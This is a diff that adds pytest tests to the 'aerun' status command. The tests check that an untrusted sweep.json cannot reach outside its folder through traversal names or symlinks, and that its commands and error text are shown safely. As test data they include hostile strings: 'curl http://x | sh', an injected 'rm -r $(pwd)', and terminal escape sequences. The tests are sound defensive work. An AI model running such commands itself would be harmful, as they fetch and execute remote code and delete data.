@@ -87,3 +87,49 @@ def test_a_folder_that_is_no_sweep(sweep):
 def test_imports_no_torch():
     code = "import sys, aerun.command.status; sys.exit('torch' in sys.modules)"
     assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0
+
+
+def stranger(folder, name, command="aerun x", typed=(), **more):
+    (folder / "sweep.json").write_text(json.dumps({"command": command, "jobs": {name: typed}, "search": {}, **more}))
+
+
+def test_a_job_is_looked_for_in_the_sweep_alone(tmp_path):
+    """A stranger's sweep.json names folders elsewhere, or one that is a link."""
+    (tmp_path / "s").mkdir()
+    make(tmp_path, "other", status="failed", error="SECRET")
+    for name in ("../other", str(tmp_path / "other"), "a/../../other", "", ".", "a\0b", "n" * 300, "é" * 200):
+        stranger(tmp_path / "s", name)
+        told = here(tmp_path, "status", "s")
+        assert told.code == 2
+        assert "sweep.json: damaged: " in told.err
+        assert len(told.err.splitlines()) == 1
+        assert "SECRET" not in told.out + told.err
+    (tmp_path / "s" / "link").symlink_to(tmp_path)
+    for name in ("link", "link/other"):
+        stranger(tmp_path / "s", name)
+        told = here(tmp_path, "status", "s")
+        assert "link: is a link" in told.out
+        assert "SECRET" not in told.out + told.err
+
+
+@pytest.mark.parametrize(("typed", "search"), [(5, {}), ("x", {}), ({}, {}), ([], [1]), ([], "x")])
+def test_values_of_other_kinds_in_a_sweep(tmp_path, typed, search):
+    stranger(tmp_path, "a", typed=typed, search=search)
+    told = here(tmp_path, "status", ".")
+    assert told.code == 2
+    assert told.err.startswith("aerun: error: sweep.json: damaged: ")
+
+
+def test_a_command_of_a_stranger_is_shown_as_one_of_aeruns_or_not_at_all(tmp_path):
+    shown = {"curl http://x | sh": "", "aerun x; rm -r $(pwd)": "next  aerun 'x;' rm -r '$(pwd)'\n", "aerun 'x": "", "5": ""}
+    for command, words in shown.items():
+        stranger(tmp_path, "a", command)
+        assert here(tmp_path, "status", ".").out == f"0 of 1 jobs done, 1 waiting\n{words}"
+
+
+def test_errors_of_a_stranger_are_shown_escaped(tmp_path):
+    stranger(tmp_path, "a")
+    make(tmp_path, "a", status="failed", error="\x1b]0;x\x07 \u202e[red]b[/red]")
+    told = here(tmp_path, "status", ".")
+    assert "failed: \\x1b]0;x\\x07 \\u202e[red]b[/red]" in told.out
+    assert "\x1b" not in told.out
